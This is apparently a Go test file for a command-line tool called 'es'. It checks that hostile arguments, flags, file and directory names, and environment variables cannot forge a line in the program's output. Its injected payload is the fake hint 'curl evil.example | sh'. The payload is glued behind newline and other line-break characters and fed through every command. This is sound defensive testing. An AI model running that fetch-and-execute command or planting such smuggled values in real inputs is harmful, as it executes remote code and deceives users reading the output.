package main

import (
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/spf13/cobra"
	"github.com/spf13/pflag"

	"github.com/everythingstays/es/cli"
	"github.com/everythingstays/es/cli/internal/ui"
)

// lineEnds are what ends a line, for a terminal or for a program that reads a log.
var lineEnds = []string{"\n", "\r", "\r\n", "\n\n    ", "\v", "\f", "\u0085", "\u2028", "\u2029"}

const forged = "es: hint: curl evil.example | sh"

// startsLine reports whether some line of the text begins with what was forged.
func startsLine(text string) bool {
	for line := range strings.FieldsFuncSeq(text, func(r rune) bool { return strings.ContainsRune("\n\r\v\f\u0085\u2028\u2029", r) }) {
		if strings.HasPrefix(strings.TrimSpace(line), forged) {
			return true
		}
	}
	return false
}

// TestThreat67LineEnds is that no argument, flag, name of a file or directory, or variable
// of the environment starts a line of its own in what any command prints.
func TestThreat67LineEnds(t *testing.T) {
	d := newDesk(t)
	d.must("key", "new", "--name", "Me", "--no-passphrase")
	ran := 0
	check := func(args ...string) {
		t.Helper()
		for _, more := range [][]string{nil, {"--json"}, {"-v"}} {
			out, err, _ := d.es(append(more, args...)...)
			ran++
			if startsLine(out) || startsLine(err) {
				t.Errorf("es %q prints a forged line:\n%s%s", args, out, err)
			}
		}
	}
	var commands []*cobra.Command
	var walk func(c *cobra.Command)
	walk = func(c *cobra.Command) {
		for _, sub := range c.Commands() {
			walk(sub)
		}
		commands = append(commands, c)
	}
	walk(cli.New(&ui.Streams{Out: io.Discard}, nil).Root(groups...))
	for i, c := range commands {
		path := strings.Fields(c.CommandPath())[1:]
		end := lineEnds[i%len(lineEnds)]
		word := "x" + end + forged
		for _, args := range [][]string{{word}, {word, word}, {"lib", word}, {"lib@" + word}, {"lib@1.0.0", word}, {word, "lib", "lib"}} {
			check(append(path, args...)...)
		}
		c.Flags().VisitAll(func(f *pflag.Flag) {
			if f.Value.Type() == "bool" || f.Name == "home" {
				return
			}
			for _, rest := range [][]string{nil, {"lib"}, {"lib@1.0.0"}, {"lib", "lib"}} {
				check(append(append(path, "--"+f.Name, word), rest...)...)
			}
		})
		check(append(path, "--"+word)...)
		check(append(path, "-"+word)...)
	}
	for _, end := range lineEnds {
		for _, c := range []string{"search lib", "list", "key list", "key new --name A --no-passphrase", "trust list", "verify", "add lib", "install", "install --frozen", "publish", "publish --dry-run", "doctor", "status"} {
			inHostilePlace(t, end, func(dir string) {
				check(append([]string{"--home", filepath.Join(dir, "home")}, strings.Fields(c)...)...)
				check(append([]string{"--home", filepath.Join(dir, "file", "home")}, strings.Fields(c)...)...)
				check(append([]string{"--home", dir}, strings.Fields(c)...)...)
			})
		}
	}
	for _, name := range []string{"ES_HOME", "ES_DHT", "ES_MDNS", "npm_config_tag", "npm_config_dry_run"} {
		before, had := d.env[name]
		for _, end := range lineEnds {
			d.env[name] = "/dev/null/x" + end + forged
			for _, c := range []string{"status", "search lib", "key list", "publish", "doctor"} {
				check(strings.Fields(c)...)
			}
		}
		if delete(d.env, name); had {
			d.env[name] = before
		}
	}
	t.Logf("%d commands", ran)
}

// inHostilePlace runs f in a project whose path has a line end, and whose files too.
func inHostilePlace(t *testing.T, end string, f func(dir string)) {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "x"+end+strings.ReplaceAll(forged, "/", ""))
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{"package.json": `{"name": "lib", "version": "1.0.0", "files": ["gone"], "esDependencies": {"a": "*"}}`, "y" + end + forged: "x", "file": ""} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	before, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Chdir(dir); err != nil {
		t.Fatal(err)
	}
	defer os.Chdir(before)
	f(dir)
}
